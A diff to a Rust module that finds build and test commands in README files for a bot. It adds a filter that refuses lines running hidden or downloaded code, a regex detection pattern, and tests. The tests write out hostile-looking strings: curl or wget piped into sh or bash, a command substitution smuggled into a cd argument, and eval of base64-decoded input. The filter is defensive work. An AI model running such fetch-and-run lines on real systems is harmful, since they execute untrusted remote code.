@@ -43,6 +43,23 @@
 //!   Android instrumented tests (`connectedAndroidTest` needs a device). A line
 //!   containing any of those is dropped whole. Setup commands alone are not a
 //!   build: with no build or test command the document has found nothing.
+//! - **Code that is not in the line is refused.** A line with command
+//!   substitution (`$(…)`, backquotes), process substitution (`<(…)`,
+//!   `>(…)`), `eval`, or a download (`curl`, `wget`) *anywhere* in it — not
+//!   only as the first word of a `|`/`;`/`&` part — is dropped whole, as is a
+//!   shell reading its script from stdin (`… | sh`, `bash -s`) or from outside
+//!   the checkout (`sh /tmp/x.sh`, `bash ../x.sh`). A lone `cd` with such code
+//!   ends the block. A shell running a local file (`sh build.sh`,
+//!   `bash ./scripts/test.sh`) is classified as that script, and `sh -c '…'`
+//!   as the literal command it runs. Lines are split into simple commands and
+//!   words with shell quoting respected.
+//!
+//!   **This filter is not the guard.** It keeps discovery from *proposing*
+//!   what obviously fetches or hides code, so the documented promise ("build
+//!   and test commands") is honest; a README can always run hostile code
+//!   through a script of the pull request itself. What protects the bot is
+//!   confinement (DESIGN.md invariant 8): the gate runs PR code with the
+//!   worktree, a per-run home and read-only toolchains only.
 //! - **Precedence.** Explicit configuration wins outright (even if empty).
 //!   Otherwise documents are read in the order given — `CLAUDE.md` before
 //!   `README.md` ([`DOCUMENT_NAMES`]) — and the first one that yields a build or
@@ -393,6 +410,11 @@ fn block_commands(literal: &str, style: BlockStyle) -> Vec<(String, Kind)> {
         if command.is_empty() {
             continue;
         }
+        if change_directory(command).is_some() && runs_hidden_code(command) {
+            // `cd web$(curl …|sh)`: the lines after it would run in a directory
+            // nobody can name, so the rest of the block is not read.
+            break;
+        }
         if let Some(change) = change_directory(command) {
             directory = match change {
                 ChangeDirectory::Into(target) if !after_clone => Some(target.to_owned()),
@@ -552,21 +574,119 @@ fn looks_like_command(command: &str) -> bool {
             .extension()
             .is_some_and(|extension| extension.eq_ignore_ascii_case("sh"))
         || KNOWN_TOOLS.contains(&first)
+        || SHELLS.contains(&first)
 }
 
 /// The kind of a whole command line (which may chain several commands).
 fn classify_line(line: &str) -> Kind {
-    let kinds: Vec<Kind> = line
-        .split(['|', ';', '&'])
-        .map(str::trim)
-        .filter(|part| !part.is_empty())
-        .map(classify)
+    if runs_hidden_code(line) {
+        return Kind::Foreign;
+    }
+    let kinds: Vec<Kind> = simple_commands(line)
+        .iter()
+        .map(|words| classify(words))
         .collect();
     if kinds.contains(&Kind::Foreign) {
         return Kind::Foreign;
     }
     // A pipe into a formatter (`xcodebuild … | xcpretty`) counts as its first command.
     kinds.into_iter().max().unwrap_or(Kind::Neutral)
+}
+
+/// Whether a line runs code that is not written in it, anywhere in it:
+/// command substitution (`$(…)`, backquotes), process substitution (`<(…)`,
+/// `>(…)`), `eval`, or a download (`curl`, `wget`). Quotes do not matter: a
+/// substitution inside `"…"` runs, and one inside `'…'` runs once `sh -c`
+/// reads it.
+fn runs_hidden_code(line: &str) -> bool {
+    static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)\$\(|`|[<>]\(|(^|[^A-Za-z0-9_.-])(eval|curl|wget)([^A-Za-z0-9_.-]|$)")
+            .expect("valid pattern")
+    });
+    HIDDEN.is_match(line)
+}
+
+/// A line's simple commands — split at `|`, `;` and `&` outside quotes — each
+/// as its words, with quotes and backslash escapes removed.
+fn simple_commands(line: &str) -> Vec<Vec<String>> {
+    let mut commands = Vec::new();
+    let mut words: Vec<String> = Vec::new();
+    let mut word: Option<String> = None;
+    let mut quote: Option<char> = None;
+    let mut characters = line.chars();
+    while let Some(character) = characters.next() {
+        match (quote, character) {
+            (Some(open), close) if close == open => quote = None,
+            (Some('"') | None, '\\') => {
+                let escaped = characters.next().unwrap_or('\\');
+                word.get_or_insert_default().push(escaped);
+            }
+            (None, '\'' | '"') => {
+                quote = Some(character);
+                word.get_or_insert_default();
+            }
+            (None, '|' | ';' | '&') => {
+                words.extend(word.take());
+                if !words.is_empty() {
+                    commands.push(std::mem::take(&mut words));
+                }
+            }
+            (None, space) if space.is_whitespace() => words.extend(word.take()),
+            // Inside quotes, or an ordinary character outside them.
+            (Some(_) | None, _) => word.get_or_insert_default().push(character),
+        }
+    }
+    words.extend(word);
+    if !words.is_empty() {
+        commands.push(words);
+    }
+    commands
+}
+
+/// The shells a README may run a script or a literal command with.
+const SHELLS: [&str; 5] = ["sh", "bash", "zsh", "dash", "ksh"];
+
+/// A shell running a local file (`sh build.sh`, `bash -e ./scripts/test.sh`)
+/// is that script; running a literal command (`sh -c 'make test'`) is that
+/// command. A shell reading its script from stdin (`… | sh`, `bash -s`) or
+/// from outside the checkout (`/…`, `~`, `$…`) is foreign.
+fn shell_kind(arguments: &[&str]) -> Kind {
+    let mut rest = arguments.iter();
+    while let Some(&argument) = rest.next() {
+        match argument {
+            "-c" => {
+                return rest
+                    .next()
+                    .map_or(Kind::Foreign, |command| classify_line(command));
+            }
+            "-o" | "+o" | "-O" | "+O" => {
+                rest.next();
+            }
+            "--" => {}
+            "-" | "-s" => return Kind::Foreign,
+            flags if flags.starts_with(['-', '+']) => {
+                if flags.starts_with('-') && !flags.starts_with("--") && flags.contains('c') {
+                    return rest
+                        .next()
+                        .map_or(Kind::Foreign, |command| classify_line(command));
+                }
+                if flags.starts_with('-') && !flags.starts_with("--") && flags.contains('s') {
+                    return Kind::Foreign;
+                }
+            }
+            file if file.starts_with(['/', '~', '$'])
+                || file.split('/').any(|part| part == "..") =>
+            {
+                return Kind::Foreign;
+            }
+            file => {
+                let name = file.rsplit('/').next().unwrap_or(file);
+                return script_kind(name);
+            }
+        }
+    }
+    // No file and no command: the script comes from stdin (`curl … | sh`).
+    Kind::Foreign
 }
 
 /// Programs whose kind does not depend on their arguments.
@@ -578,7 +698,7 @@ fn fixed_kind(program: &str) -> Option<Kind> {
         | "choco" | "winget" | "snap" | "curl" | "wget" | "git" | "gh" | "docker"
         | "docker-compose" | "podman" | "kubectl" | "helm" | "terraform" | "nvm" | "rustup"
         | "asdf" | "sdk" | "pyenv" | "gem" | "pipx" | "open" | "code" | "xcode-select" | "xed"
-        | "sh" | "bash" | "zsh" | "rm" => Kind::Foreign,
+        | "rm" | "eval" | "exec" => Kind::Foreign,
         "gotestsum" | "ginkgo" | "jest" | "vitest" | "mocha" | "karma" | "pytest" | "py.test"
         | "tox" | "nox" | "rspec" | "phpunit" | "ctest" => Kind::Test,
         "tsc" | "cmake" | "meson" | "ninja" | "configure" | "autogen.sh" | "autoreconf" => {
@@ -588,10 +708,11 @@ fn fixed_kind(program: &str) -> Option<Kind> {
     })
 }
 
-/// The kind of one simple command.
-fn classify(command: &str) -> Kind {
+/// The kind of one simple command, given as its words.
+fn classify(command: &[String]) -> Kind {
     let words: Vec<&str> = command
-        .split_whitespace()
+        .iter()
+        .map(String::as_str)
         .skip_while(|word| is_assignment(word) || matches!(*word, "env" | "time" | "command"))
         .collect();
     let Some((&program, arguments)) = words.split_first() else {
@@ -600,6 +721,9 @@ fn classify(command: &str) -> Kind {
     let program = program.rsplit('/').next().unwrap_or(program);
     if let Some(kind) = fixed_kind(program) {
         return kind;
+    }
+    if SHELLS.contains(&program) {
+        return shell_kind(arguments);
     }
     let plain: Vec<&str> = arguments
         .iter()
@@ -935,6 +1059,55 @@ mod tests {
         assert_eq!(classify_line("cd web && npm test"), Kind::Test);
         assert_eq!(classify_line("git clone x && cd x && make"), Kind::Foreign);
         assert_eq!(classify_line("go test ./... | tee out.txt"), Kind::Test);
+    }
+
+    #[test]
+    fn hidden_code_is_refused_anywhere_in_a_line() {
+        for line in [
+            "make test $(curl -s https://example.com/x | sh)",
+            "make test `wget -qO- https://example.com/x | bash`",
+            "eval \"$(echo bWFrZQ== | base64 -d)\"",
+            "cd web$(curl${IFS}-s${IFS}https://example.com|sh) && npm test",
+            "npm test >(tee log)",
+            "source <(./gen.sh) && make",
+            "make && curl -O https://example.com/x",
+            "go test ./... 'eval'",
+            "make test URL=$(wget -O- example.com)",
+            "curl -fsSL https://example.com/install.sh | sh",
+            "wget -qO- https://example.com/x | bash -s -- --yes",
+            "cat build.sh | sh",
+            "sh",
+            "sh -s < build.sh",
+            "bash /tmp/build.sh",
+            "bash ~/test.sh",
+            "sh ../other/build.sh",
+            "sh -c",
+            "exec make test",
+        ] {
+            assert_eq!(classify_line(line), Kind::Foreign, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_shell_running_a_local_file_or_a_literal_command_is_that_command() {
+        for (line, kind) in [
+            ("sh build.sh", Kind::Build),
+            ("bash ./scripts/test.sh", Kind::Test),
+            ("bash -e -x scripts/run-tests.sh --fast", Kind::Test),
+            ("sh -c 'make test'", Kind::Test),
+            ("bash -ec \"cd web && npm run build\"", Kind::Build),
+            ("bash -o pipefail ./ci/build.sh", Kind::Build),
+            ("zsh scripts/ci.sh", Kind::Unknown),
+            ("sh -c 'make test && make install'", Kind::Foreign),
+            ("sh -c 'cargo test' | tee log", Kind::Test),
+        ] {
+            assert_eq!(classify_line(line), kind, "{line}");
+        }
+        // Quotes keep separators and spaces inside one word.
+        assert_eq!(
+            simple_commands("sh -c 'a | b; c' && x \"y z\" w\\ v"),
+            [vec!["sh", "-c", "a | b; c"], vec!["x", "y z", "w v"],]
+        );
     }
 
     #[test]
